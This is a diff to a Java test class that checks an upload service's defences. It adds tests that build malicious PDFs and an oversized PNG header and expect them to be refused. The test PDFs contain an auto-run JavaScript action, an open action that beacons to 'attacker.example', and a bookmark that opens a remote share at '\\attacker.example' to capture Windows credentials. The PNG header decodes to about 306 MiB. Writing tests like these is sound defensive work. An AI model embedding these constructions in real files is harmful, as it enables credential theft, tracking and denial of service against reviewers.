@@ -15,11 +15,19 @@ import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
 import java.util.Map;
 import java.util.zip.CRC32;
+import org.apache.pdfbox.cos.COSArray;
+import org.apache.pdfbox.cos.COSDictionary;
+import org.apache.pdfbox.cos.COSName;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
 import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
 import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDBorderStyleDictionary;
+import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
+import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
@@ -58,6 +66,10 @@ class UploadDefenceTest {
         assertThat(code(upload(Arrays.copyOf(AppealScenarios.PNG, AppealScenarios.PNG.length / 2)))).isEqualTo("IMAGE_UNREADABLE");
         assertThat(code(upload(Arrays.copyOf(jpeg, jpeg.length - 40)))).isEqualTo("IMAGE_UNREADABLE");
         assertThat(code(upload(pngHeaderClaiming(50_000, 50_000)))).isEqualTo("IMAGE_TOO_LARGE");
+        // under the pixel limit, but 16-bit RGBA: 320 MB once decoded, from a file of a few hundred KB
+        ResponseEntity<Map> deep = upload(pngHeaderClaiming(6_324, 6_324, 16, 6));
+        assertThat(code(deep)).isEqualTo("IMAGE_TOO_LARGE");
+        assertThat(deep.getBody().get("detail").toString()).contains("306 MiB decoded");
         assertThat(code(upload("GIF89a....".getBytes()))).isEqualTo("UNSUPPORTED_TYPE");
         assertThat(storedCount()).isZero();
     }
@@ -77,6 +89,83 @@ class UploadDefenceTest {
         assertThat(storedCount()).isZero();
 
         assertThat(upload(plain).getStatusCode().value()).isEqualTo(201);
+    }
+
+    @Test
+    void actionsHiddenInDirectDictionariesOrOfKindsBeyondNavigationAreRefusedAndPlainNavigationIsKept() throws Exception {
+        // JavaScript chained behind a harmless jump run on opening, neither an object of its own
+        assertThat(code(upload(pdf(document -> {
+            COSDictionary script = direct(action("JavaScript"));
+            script.setString(COSName.JS, "app.alert('hi')");
+            COSDictionary jump = direct(action("GoTo"));
+            jump.setItem(COSName.D, destination(document));
+            jump.setItem(COSName.NEXT, script);
+            document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, jump);
+        })))).isEqualTo("PDF_ACTIVE_CONTENT");
+        // a link followed on opening, unasked
+        assertThat(code(upload(pdf(document -> {
+            COSDictionary link = direct(action("URI"));
+            link.setString(COSName.URI, "https://attacker.example/?seen");
+            document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, link);
+        })))).isEqualTo("PDF_ACTIVE_CONTENT");
+        // a bookmark opening a file on a remote share (Windows sends the reviewer's credentials to it)
+        assertThat(code(upload(pdf(document -> bookmark(document, direct(remoteFile())))))).isEqualTo("PDF_ACTIVE_CONTENT");
+        assertThat(storedCount()).isZero();
+
+        // bookmarks that jump within the document, and a link annotation with a dashed border (/S /D), are plain
+        assertThat(upload(pdf(document -> {
+            COSDictionary jump = direct(action("GoTo"));
+            jump.setItem(COSName.D, destination(document));
+            bookmark(document, jump);
+            PDAnnotationLink link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(10, 10, 100, 20));
+            PDBorderStyleDictionary border = new PDBorderStyleDictionary();
+            border.setStyle(PDBorderStyleDictionary.STYLE_DASHED);
+            link.setBorderStyle(border);
+            try {
+                document.getPage(0).getAnnotations().add(link);
+            } catch (java.io.IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        })).getStatusCode().value()).isEqualTo(201);
+    }
+
+    private static COSDictionary action(String kind) {
+        COSDictionary action = new COSDictionary();
+        action.setName(COSName.S, kind);
+        return action;
+    }
+
+    /** Written inside the dictionary that holds it, not as an object of its own. */
+    private static COSDictionary direct(COSDictionary dictionary) {
+        dictionary.setDirect(true);
+        return dictionary;
+    }
+
+    private static COSDictionary remoteFile() {
+        COSDictionary action = action("GoToR");
+        action.setString(COSName.F, "\\\\attacker.example\\share\\x.pdf");
+        COSArray page = new COSArray();
+        page.add(org.apache.pdfbox.cos.COSInteger.ZERO);
+        page.add(COSName.getPDFName("Fit"));
+        action.setItem(COSName.D, page);
+        return action;
+    }
+
+    private static COSArray destination(PDDocument document) {
+        COSArray destination = new COSArray();
+        destination.add(document.getPage(0).getCOSObject());
+        destination.add(COSName.getPDFName("Fit"));
+        return destination;
+    }
+
+    private static void bookmark(PDDocument document, COSDictionary action) {
+        PDDocumentOutline outline = new PDDocumentOutline();
+        PDOutlineItem item = new PDOutlineItem();
+        item.setTitle("Page 1");
+        item.getCOSObject().setItem(COSName.A, action);
+        outline.addLast(item);
+        document.getDocumentCatalog().setDocumentOutline(outline);
     }
 
     @Test
@@ -173,13 +262,22 @@ class UploadDefenceTest {
 
     /** A PNG signature and an IHDR chunk claiming the size, with a correct CRC: all a reader sees before decoding. */
     private static byte[] pngHeaderClaiming(int width, int height) {
+        return pngHeaderClaiming(width, height, 8, 2);
+    }
+
+    /** A PNG of this many pixels, bits per sample and colour type (2 RGB, 6 RGBA) by its header, with no pixel data. */
+    private static byte[] pngHeaderClaiming(int width, int height, int bitDepth, int colourType) {
         ByteBuffer ihdr = ByteBuffer.allocate(17).put("IHDR".getBytes()).putInt(width).putInt(height)
-                .put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
+                .put((byte) bitDepth).put((byte) colourType).put((byte) 0).put((byte) 0).put((byte) 0);
         CRC32 crc = new CRC32();
         crc.update(ihdr.array());
-        ByteBuffer png = ByteBuffer.allocate(8 + 4 + 17 + 4 + 12);
+        CRC32 idat = new CRC32();
+        idat.update("IDAT".getBytes());
+        // an empty IDAT chunk: where the pixels would start, as far as a reader looks before decoding
+        ByteBuffer png = ByteBuffer.allocate(8 + 4 + 17 + 4 + 12 + 12);
         png.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A}).putInt(13).put(ihdr.array())
-                .putInt((int) crc.getValue()).putInt(0).put("IEND".getBytes()).putInt(0xAE426082);
+                .putInt((int) crc.getValue()).putInt(0).put("IDAT".getBytes()).putInt((int) idat.getValue())
+                .putInt(0).put("IEND".getBytes()).putInt(0xAE426082);
         return png.array();
     }
 
